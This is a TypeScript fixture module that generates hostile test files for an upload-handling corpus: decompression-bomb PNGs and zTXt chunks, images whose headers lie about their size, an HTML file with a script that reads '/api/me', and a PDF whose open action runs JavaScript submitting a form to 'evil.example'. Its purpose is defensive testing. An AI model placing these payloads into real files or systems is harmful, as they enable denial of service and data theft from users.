import { createDeflate, crc32 } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';

/**
 * Hand-made bytes for the upload corpus (issue 13): what an encoder would never write on its own —
 * headers that lie about dimensions, compressed streams that inflate a thousandfold, files that are
 * two formats at once. Each is small to keep and quick to make.
 */

const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

export function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/** `total` zero bytes through deflate, fed a slice at a time so the zeros never sit in memory whole. */
async function deflatedZeros(total: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (part: Buffer) => parts.push(part));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  const slice = Buffer.alloc(1 << 20);
  for (let left = total; left > 0; left -= slice.length) {
    if (!deflate.write(left >= slice.length ? slice : slice.subarray(0, left)))
      await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  return Buffer.concat(parts);
}

/**
 * An 8-bit greyscale PNG of `width` × `height` black pixels: a real, valid file whose IDAT is
 * deflated zero rows (about a thousandth of their size), so 20,000 × 20,000 (400 MB of pixels,
 * 1.6 GB as a browser's RGBA) fits in about 400 KB.
 */
export async function pngOfZeros(width: number, height: number): Promise<Buffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8); // depth 8, greyscale, deflate, no filter method, not interlaced
  const pixels = await deflatedZeros((width + 1) * height); // each row: a filter byte, then the pixels
  return Buffer.concat([
    pngSignature,
    pngChunk('IHDR', header),
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A valid PNG with one more chunk put in just before its end. */
export function withPngChunk(png: Buffer, type: string, data: Buffer): Buffer {
  const end = png.length - 12; // IEND: length, type and CRC, no data
  return Buffer.concat([png.subarray(0, end), pngChunk(type, data), png.subarray(end)]);
}

/** A compressed text chunk (zTXt) whose text inflates to `bytes` zeros. */
export async function zTxtOfZeros(bytes: number): Promise<Buffer> {
  return Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), await deflatedZeros(bytes)]);
}

/** A JPEG whose frame header (SOF) is rewritten to claim other dimensions; the scan data stays 16 × 16. */
export async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(
    await sharp({ create: { width: 16, height: 16, channels: 3, background: '#808080' } })
      .jpeg()
      .toBuffer(),
  );
  for (let at = 2; at < jpeg.length - 9; at += 1) {
    if (jpeg[at] === 0xff && (jpeg[at + 1] === 0xc0 || jpeg[at + 1] === 0xc2)) {
      jpeg.writeUInt16BE(height, at + 5);
      jpeg.writeUInt16BE(width, at + 7);
      return jpeg;
    }
  }
  throw new Error('no frame header in the JPEG');
}

/** A lossless WebP whose VP8L header is rewritten to claim other dimensions (at most 16,384 each). */
export async function webpClaiming(width: number, height: number): Promise<Buffer> {
  const webp = Buffer.from(
    await sharp({ create: { width: 16, height: 16, channels: 3, background: '#808080' } })
      .webp({ lossless: true })
      .toBuffer(),
  );
  if (webp.subarray(12, 16).toString('latin1') !== 'VP8L' || webp[20] !== 0x2f)
    throw new Error('not a simple lossless WebP');
  // 14 bits width − 1, 14 bits height − 1, 1 bit alpha, 3 bits version (0).
  webp.writeUInt32LE(((width - 1) | ((height - 1) << 14)) >>> 0, 21);
  return webp;
}

/** JPEG comment segments (COM) put in after the start marker, each at most 65,533 bytes of text. */
export function withJpegComment(jpeg: Buffer, text: Buffer): Buffer {
  const segments: Buffer[] = [];
  for (let at = 0; at < text.length || segments.length === 0; at += 65533) {
    const part = text.subarray(at, at + 65533);
    const head = Buffer.from([0xff, 0xfe, 0, 0]);
    head.writeUInt16BE(part.length + 2, 2);
    segments.push(head, part);
  }
  return Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
}

/** A valid JPEG of exactly `size` bytes: a small picture padded with comment segments. */
export async function jpegOfSize(size: number): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#2a9d8f' } })
    .jpeg()
    .toBuffer();
  const segments: Buffer[] = [];
  let left = size - jpeg.length;
  while (left > 0) {
    // A segment is 4 to 65,537 bytes (marker, length, text); never leave 1–3 bytes no segment can fill.
    let take = Math.min(left, 65537);
    if (left - take > 0 && left - take < 4) take -= 4;
    const head = Buffer.from([0xff, 0xfe, 0, 0]);
    head.writeUInt16BE(take - 2, 2);
    segments.push(head, Buffer.alloc(take - 4, 0x20));
    left -= take;
  }
  const padded = Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
  if (padded.length !== size) throw new Error(`padded to ${padded.length}, not ${size}`);
  return padded;
}

/** A 2 × 2 uncompressed 24-bit Windows bitmap. */
export function bmp(): Buffer {
  const pixels = Buffer.alloc(16, 0x7f); // two rows of 6 bytes, each padded to 8
  const file = Buffer.alloc(54);
  file.write('BM', 0, 'latin1');
  file.writeUInt32LE(54 + pixels.length, 2);
  file.writeUInt32LE(54, 10);
  file.writeUInt32LE(40, 14);
  file.writeInt32LE(2, 18);
  file.writeInt32LE(2, 22);
  file.writeUInt16LE(1, 26);
  file.writeUInt16LE(24, 28);
  file.writeUInt32LE(pixels.length, 34);
  return Buffer.concat([file, pixels]);
}

/** An ISO media file type box (`ftyp`) with a major brand, as MP4, QuickTime and HEIF files begin. */
export function ftyp(brand: string, compatible: string[] = []): Buffer {
  const box = Buffer.alloc(16 + 4 * compatible.length);
  box.writeUInt32BE(box.length, 0);
  box.write(`ftyp${brand}`, 4, 'latin1');
  compatible.forEach((name, i) => box.write(name, 16 + 4 * i, 'latin1'));
  return box;
}

/** An EBML header (Matroska's) naming a DocType, as a WebM file begins. */
export function ebmlHeader(docType: string): Buffer {
  const docTypeElement = Buffer.concat([
    Buffer.from([0x42, 0x82, 0x80 | docType.length]),
    Buffer.from(docType, 'latin1'),
  ]);
  return Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80 | docTypeElement.length]), docTypeElement]);
}

export const htmlWithScript = Buffer.from(
  '<!doctype html><html><body><script>fetch("/api/me").then((r) => r.text()).then(alert)</script></body></html>\n',
);

/** A one-page PDF that runs JavaScript when opened (`/OpenAction` → `/JS`), with a correct cross-reference table. */
export function pdfWithJavaScript(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    "<< /Type /Action /S /JavaScript /JS (app.alert\\('Paid Rs 500'\\); this.submitForm\\('https://evil.example/'\\);) >>",
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((body, i) => {
    const offset = text.length;
    text += `${i + 1} 0 obj ${body} endobj\n`;
    return offset;
  });
  const xref = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
  text += `trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** GPS coordinates (Pokhara) and a camera make, for EXIF blocks. */
export const gpsExif = {
  IFD0: { Make: 'TestCam' },
  IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '28/1 12/1 3600/100', GPSLongitudeRef: 'E', GPSLongitude: '83/1 59/1 0/1' },
};

/** A 320 × 240 picture with some structure, for encoders to write in a format. */
export function picture(width = 320, height = 240): Sharp {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><rect width="100%" height="100%" fill="#264653"/><circle cx="${width / 2}" cy="${height / 2}" r="${height / 3}" fill="#e9c46a"/></svg>`;
  return sharp(Buffer.from(svg));
}

/** One colour, drawn without SVG (whose renderer stops at 32,767 pixels a side). */
export const plain = (width: number, height: number): Sharp =>
  sharp({ create: { width, height, channels: 3, background: '#e76f51' } });

/** The first `fraction` of a file, as an upload cut off mid-way leaves it. */
export const truncated = (bytes: Buffer, fraction: number) => bytes.subarray(0, Math.floor(bytes.length * fraction));
